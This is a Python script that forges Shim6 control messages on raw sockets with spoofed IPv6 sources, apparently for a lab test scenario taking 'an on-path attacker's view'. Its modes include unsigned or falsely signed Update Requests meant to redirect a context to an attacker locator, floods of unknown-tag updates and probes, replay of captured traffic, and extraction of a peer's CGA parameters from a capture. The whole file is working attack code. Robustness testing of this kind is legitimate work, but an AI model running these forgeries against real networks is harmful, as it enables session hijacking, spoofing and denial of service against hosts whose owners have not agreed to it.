#!/usr/bin/env python3
"""Forged Shim6 control messages for scenario 5 (no dependency beyond Python).

Frames are built whole (Ethernet, IPv6 with next header 140, the Shim6
message) and sent on an AF_PACKET socket, so the IPv6 source can be any
address: an on-path attacker's view.  The Shim6 checksum is the Internet
checksum over the Shim6 header alone (RFC 5533 section 5), no pseudo-header.

  forge.py IFACE SRCMAC DSTMAC KIND [key=value ...]

KIND (keys):
  r1-nonce        src dst                    R1 whose initiator nonce no I1 sent
  i2-validator    src dst                    I2 with a made-up responder validator
  update-unsigned src dst tag                Update Request, locator list, no CGA PDS/signature
  update-badsig   src dst tag pds            Update Request, locator list, the peer's PDS,
                                             a signature that is not the peer's
  unknown-update  src dst count              Update Requests with random (unknown) tags
  unknown-probe   src dst count              REAP Probes with random (unknown) tags
  replay          pcap dst_prefix [src_prefix]  resend every Shim6 control message of a
                                             capture from src_prefix to dst_prefix
  pds             pcap src_prefix            print the CGA PDS a captured message carries
Prints one line: how many frames were sent.
"""
import ipaddress
import os
import socket
import struct
import sys
import time

PROTO = 140
NH_NONE = 59
T_R1, T_I2, T_UPDATE_REQ, T_PROBE = 2, 3, 64, 67
O_VALIDATOR, O_LOCLIST, O_PDS, O_CGASIG = 1, 2, 4, 5
VERIF_CGA = 2


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def opt(t, content, crit=False):
    o = struct.pack("!HH", (t << 1) | int(crit), len(content)) + content
    return o + b"\0" * (-len(o) % 8)


def shim6(mtype, body, opts=b""):
    """body: the octets after the checksum; body+opts must end on 8 octets."""
    rest = body + opts
    total = 6 + len(rest)
    assert total % 8 == 0 and total >= 8, total
    hdr = bytearray(struct.pack("!BBBBH", NH_NONE, total // 8 - 1, mtype & 0x7F, 0, 0) + rest)
    struct.pack_into("!H", hdr, 4, csum(bytes(hdr)))
    return bytes(hdr)


def tag6(tag):
    return struct.pack("!Q", tag & 0x7FFFFFFFFFFF)[2:]


def rnd32():
    return struct.unpack("!I", os.urandom(4))[0]


def loclist(gen, locs):
    n = len(locs)
    c = struct.pack("!IB", gen, n) + bytes([VERIF_CGA] * n)
    c += b"\0" * ((((9 + n + 7) & ~7) - 4) - len(c))
    for a in locs:
        c += ipaddress.IPv6Address(a).packed
    return opt(O_LOCLIST, c)


def frame(smac, dmac, src, dst, payload):
    eth = bytes.fromhex(dmac.replace(":", "")) + bytes.fromhex(smac.replace(":", "")) + b"\x86\xdd"
    ip6 = struct.pack("!IHBB", 6 << 28, len(payload), PROTO, 64)
    ip6 += ipaddress.IPv6Address(src).packed + ipaddress.IPv6Address(dst).packed
    return eth + ip6 + payload


def pcap_frames(path):
    with open(path, "rb") as f:
        data = f.read()
    magic = struct.unpack("<I", data[:4])[0]
    e = "<" if magic in (0xA1B2C3D4, 0xA1B23C4D) else ">"
    off = 24
    while off + 16 <= len(data):
        _, _, incl, _ = struct.unpack(e + "IIII", data[off:off + 16])
        yield data[off + 16:off + 16 + incl]
        off += 16 + incl


def main():
    iface, smac, dmac, kind = sys.argv[1:5]
    kv = dict(a.split("=", 1) for a in sys.argv[5:])
    s = None
    sent = 0

    def tx(src, dst, msg):
        nonlocal sent, s
        if s is None:
            s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
            s.bind((iface, 0))
        s.send(frame(smac, dmac, src, dst, msg))
        sent += 1

    src, dst = kv.get("src"), kv.get("dst")
    if kind == "r1-nonce":
        # R1: Reserved2(16) | Initiator Nonce | Responder Nonce | Responder Validator
        body = b"\0\0" + struct.pack("!II", rnd32(), rnd32())
        tx(src, dst, shim6(T_R1, body, opt(O_VALIDATOR, os.urandom(20))))
    elif kind == "i2-validator":
        # I2: R|Initiator Context Tag | Initiator Nonce | Responder Nonce | Reserved2
        body = tag6(rnd32() << 8 | 1) + struct.pack("!III", rnd32(), rnd32(), 0)
        opts = opt(O_VALIDATOR, os.urandom(20)) + loclist(1, [src])
        tx(src, dst, shim6(T_I2, body, opts))
    elif kind in ("update-unsigned", "update-badsig"):
        tag = int(kv["tag"], 16)
        body = tag6(tag) + struct.pack("!I", rnd32())
        # the attacker's own locator, which it wants the context to move to
        opts = loclist(0x10000 + rnd32() % 1000, [src, kv.get("evil", src)])
        if kind == "update-badsig":
            opts += opt(O_PDS, bytes.fromhex(kv["pds"])) + opt(O_CGASIG, os.urandom(128))
        tx(src, dst, shim6(T_UPDATE_REQ, body, opts))
    elif kind in ("unknown-update", "unknown-probe"):
        n = int(kv.get("count", "1"))
        pace = float(kv.get("secs", "1")) / n
        for _ in range(n):
            tag = struct.unpack("!Q", b"\0\0" + os.urandom(6))[0] & 0x7FFFFFFFFFFF or 1
            if kind == "unknown-update":
                msg = shim6(T_UPDATE_REQ, tag6(tag) + struct.pack("!I", rnd32()))
            else:
                # Probe: tag | Psent=1 Precvd=0 | Reserved2, one sent-probe report
                rep = (ipaddress.IPv6Address(src).packed + ipaddress.IPv6Address(dst).packed
                       + struct.pack("!II", rnd32(), 0))
                msg = shim6(T_PROBE, tag6(tag) + struct.pack("!I", 1 << 28) + rep)
            tx(src, dst, msg)
            time.sleep(pace)
    elif kind == "replay":
        net = ipaddress.IPv6Network(kv["dst_prefix"])
        snet = ipaddress.IPv6Network(kv.get("src_prefix", "::/0"))
        for fr in pcap_frames(kv["pcap"]):
            if len(fr) < 14 + 40 + 8 or fr[12:14] != b"\x86\xdd" or fr[14 + 6] != PROTO:
                continue
            m = fr[54:]
            if m[2] & 0x80:          # payload extension header, not a control message
                continue
            if ipaddress.IPv6Address(fr[38:54]) not in net or ipaddress.IPv6Address(fr[22:38]) not in snet:
                continue
            tx(str(ipaddress.IPv6Address(fr[22:38])), str(ipaddress.IPv6Address(fr[38:54])), m)
            time.sleep(0.01)
    elif kind == "pds":
        # print the CGA PDS option a captured control message from src_prefix carries
        net = ipaddress.IPv6Network(kv["src_prefix"])
        for fr in pcap_frames(kv["pcap"]):
            if len(fr) < 62 or fr[12:14] != b"\x86\xdd" or fr[20] != PROTO or fr[56] & 0x80:
                continue
            if ipaddress.IPv6Address(fr[22:38]) not in net:
                continue
            m = fr[54:54 + 8 + 8 * fr[55]]
            o = {T_R1: 16, T_I2: 24, 4: 16, T_UPDATE_REQ: 16}.get(m[2] & 0x7F)
            while o is not None and o + 4 <= len(m):
                t, ln = struct.unpack("!HH", m[o:o + 4])
                if t >> 1 == O_PDS:
                    print(m[o + 4:o + 4 + ln].hex())
                    return
                o += (4 + ln + 7) & ~7
        sys.exit("forge.py: no CGA PDS in the capture")
    else:
        sys.exit("forge.py: unknown kind " + kind)
    print("sent %d" % sent)


if __name__ == "__main__":
    main()
